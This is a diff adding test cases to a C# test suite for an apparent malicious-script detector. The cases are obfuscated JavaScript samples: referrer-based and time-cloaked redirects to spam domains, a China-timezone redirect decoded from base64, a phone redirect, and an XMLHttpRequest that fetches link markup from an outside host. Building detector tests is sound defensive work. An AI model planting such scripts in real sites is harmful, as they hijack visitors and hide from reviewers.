@@ -64,6 +64,18 @@ public sealed class BlindSetScriptTests
         // the whole test in an eval'd function, property names in \x escapes, the target from character codes
         { "eval(function(){var r=document[\"\\x72\\x65\\x66\\x65\\x72\\x72\\x65\\x72\"];var k=[\"\\x62\\x61\\x69\\x64\\x75\",\"\\x73\\x6f\\x67\\x6f\\x75\"];for(var i=0;i<k.length;i++){if(r.indexOf(k[i])!=-1){window[\"\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e\"][\"\\x68\\x72\\x65\\x66\"]=String.fromCharCode(104,116,116,112,115,58,47,47,119,119,119,46,107,57,120,55,51,46,99,111,109,47);}}}())",
           "www.k9x73.com", "the referrer" },
+        // the location's name from character codes, the target from character codes, after a delay, for every visitor
+        { "var u=String.fromCharCode(104,116,116,112,58,47,47,119,55,55,50,98,46,99,99,47);setTimeout(function(){window[String.fromCharCode(108,111,99,97,116,105,111,110)]=u},800);",
+          "w772b.cc", "every visitor" },
+        // names and referrer test from split strings held in variables: window[_l][_h]=…
+        { "var p1='ht',p2='tp://',p3='www.',p4='5'+'81k2',p5='.net';var _l='lo'+'ca'+'ti'+'on',_h='hr'+'ef';if(document['re'+'ferr'+'er'].match(/(bai)(du)|(sog)(ou)/i)){window[_l][_h]=p1+p2+p3+p4+p5;}",
+          "www.581k2.net", "the referrer" },
+        // only at night (22:00–07:00) and from a link: the visitors come late in the evening and in the small hours
+        { "var h=new Date().getHours();if((h>=22||h<7)&&document.referrer!=\"\"){setTimeout(function(){top.location.href=\"ht\"+\"tps://www.q\"+\"88\"+\"x7.com/\"},900)}",
+          "www.q88x7.com", "the hour of the day" },
+        // only in the evening, China time, Chinese browser: the target from atob
+        { "!function(){var z=Intl.DateTimeFormat().resolvedOptions().timeZone;if(z==\"Asia/Shanghai\"&&navigator.language.indexOf(\"zh\")==0){var h=new Date().getHours();if(h>=20||h<5){location.replace(atob(\"aHR0cHM6Ly93d3cuazd4OTNxLmNvbS9yP2M9OA==\"));}}}();",
+          "www.k7x93q.com", "the hour of the day" },
     };
 
     [Theory]
@@ -98,6 +110,23 @@ public sealed class BlindSetScriptTests
         var findings = Analyze($"var s=\"{b64}\";document.write(decodeURIComponent(escape(atob(s))));");
         var finding = Expect(findings, ScriptInjectionAnalyzer.WritesLinksRule, Severity.Critical);
         Assert.Contains("www.k3j8x9.com", finding.MatchedTerm);
+    }
+
+    [Fact]
+    public void An_XMLHttpRequest_whose_answer_handler_is_set_before_open_and_writes_it_is_found()
+    {
+        var findings = Analyze("var x=window.XMLHttpRequest?new XMLHttpRequest():new ActiveXObject(\"Microsoft.XMLHTTP\");"
+            + "x.onreadystatechange=function(){if(x.readyState==4&&x.status==200){document.getElementById(\"fl\").innerHTML=x.responseText;}};"
+            + "x.open(\"GET\",\"http://www.q7k2x.com/links.asp?u=\"+escape(document.URL),true);x.send(null);");
+        Assert.Equal("www.q7k2x.com", Expect(findings, ScriptInjectionAnalyzer.FetchesMarkupRule, Severity.High).MatchedTerm);
+    }
+
+    [Fact]
+    public void A_phone_redirect_to_the_mobile_host_of_a_name_without_a_word_is_critical()
+    {
+        var finding = Expect(Analyze("if(/Android|iPhone|iPod/i.test(navigator.userAgent)){top.location.href=\"https://m.x7kqt4.com/\";}"),
+            RedirectAnalyzer.CrossDomainRule, Severity.Critical);
+        Assert.Equal("m.x7kqt4.com", finding.MatchedTerm);
     }
 
     [Fact]
